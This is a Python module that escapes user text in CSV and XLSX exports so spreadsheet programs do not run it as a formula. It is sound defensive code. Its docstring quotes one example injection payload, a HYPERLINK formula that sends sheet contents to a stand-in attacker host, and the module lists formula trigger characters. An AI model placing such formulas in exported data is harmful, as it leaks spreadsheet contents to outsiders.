"""Cells of user text in every CSV and XLSX export, neutralised against formula injection.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` (and, in some programs, a tab or a
carriage return before one) as a formula: `=HYPERLINK("http://evil.example/?c="&A1,"Answer")` in a
published question would leak the sheet when a reader clicks it. Every export writes its cells through
`csv_cell` or `xlsx_cell`, so no text a citizen or a staff member typed becomes a formula.
"""

from __future__ import annotations

from typing import Any

# The ASCII triggers and their full-width forms, which some spreadsheet programs also accept.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def is_formula_like(text: str) -> bool:
    """Return whether a spreadsheet program would read `text` as the start of a formula."""
    return text.startswith(FORMULA_TRIGGERS)


def csv_cell(value: Any) -> Any:
    """Return the value for a CSV cell: text that could run as a formula gets a leading apostrophe.

    Numbers, dates and None pass unchanged (a negative number is data, not text a person typed).
    """
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_row(values) -> list:
    """Return a CSV row with every cell neutralised (None as an empty cell)."""
    return ["" if v is None else csv_cell(v) for v in values]


def xlsx_cell(sheet, *, row: int, column: int, value: Any):
    """Write `value` into an openpyxl cell and return the cell; text is always stored as a string.

    openpyxl turns a string starting with `=` into a formula; here text keeps the string type, and text
    that looks like a formula also gets Excel's quote prefix, so that editing the cell keeps it text.
    """
    cell = sheet.cell(row=row, column=column)
    if isinstance(value, str):
        cell.value = value
        cell.data_type = "s"
        if is_formula_like(value):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell
